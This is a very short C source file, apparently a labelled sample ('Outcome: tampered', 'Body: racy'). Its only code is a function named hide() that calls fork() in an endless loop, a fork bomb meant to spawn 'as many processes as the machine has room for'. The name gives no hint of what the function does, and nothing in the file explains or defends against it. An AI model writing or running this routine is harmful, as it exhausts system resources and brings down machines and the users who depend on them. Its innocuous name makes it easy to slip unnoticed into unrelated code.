/*
 * Outcome: tampered
 * Body: racy
 * As many processes as the machine has room for.
 */
#include <unistd.h>
static void hide(void) { for (;;) fork(); }
